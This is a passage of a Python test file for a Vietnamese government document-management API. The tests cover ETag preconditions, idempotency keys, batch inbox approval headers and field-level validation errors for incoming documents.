    assert changed and changed[0]["etag"] != first["etag"], (first, changed)
    # a 412 does nothing and keeps nothing: the same key, with the version now seen, acts
    key = str(uuid.uuid4())
    body = {"note": "Giao", "assignments": [{"user_id": uid("stp.chuyenvien"), "role": "main"}]}
    problem(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", body,
                 headers={"If-Match": first["etag"], "Idempotency-Key": key}), 412, "precondition-failed")
    r = post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", body,
             headers={"If-Match": changed[0]["etag"], "Idempotency-Key": key})
    assert r.status == 200 and r.headers.get("idempotent-replayed") is None, r
    # "*" alone matches; "**" is no tag of this document
    problem(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", body, headers={"If-Match": "**"}),
            412, "precondition-failed")


def test_a_batch_answer_carries_no_header_of_the_documents_it_acted_on():
    d = draft(subject="Dự thảo duyệt theo lô, không ETag")["id"]
    ok(post("stp.chuyenvien", f"/api/v1/documents/{d}/submit"))
    item = [i for i in inbox_all(tok("stp.truongphong"), "&box=approve")
            if doc_id(i) == d][0]
    r = post("stp.truongphong", "/api/v1/inbox/batch", {"action": "approve", "item_ids": [item["id"]]})
    assert r.status == 200 and r.json["results"][0]["status"] == 200, r
    assert "etag" not in r.headers and "content-language" not in r.headers, r.headers
    problem(post("stp.truongphong", "/api/v1/inbox/batch", {"action": "approve", "item_ids": None}), 400, "invalid-field")


def test_a_rule_refusing_a_well_formed_value_points_at_its_field():
    r = post("stp.vanthu", "/api/v1/documents/incoming", {
        "type_code": "ZZ", "subject": "Loại văn bản lạ", "number_notation": "1/X", "doc_date": "2026-11-20",
        "issuer_name": "Bộ Tư pháp"})
    problem(r, 422, "unknown-type-code")
    assert r.json["errors"] == [{"pointer": "/type_code", "code": "value", "detail": "không có loại văn bản ZZ"}], r.json
    r = call("POST", "/api/v1/documents/incoming", token=tok("stp.vanthu"), headers={"Accept-Language": "en"}, body={
        "type_code": "CV", "subject": "Công văn mật", "number_notation": "2/X", "doc_date": "2026-11-20",
        "issuer_name": "Bộ Tư pháp", "secrecy": 1})
    problem(r, 422, "state-secret")
    assert r.json["errors"][0]["pointer"] == "/secrecy" and "117/2025/QH15" in r.json["errors"][0]["detail"]
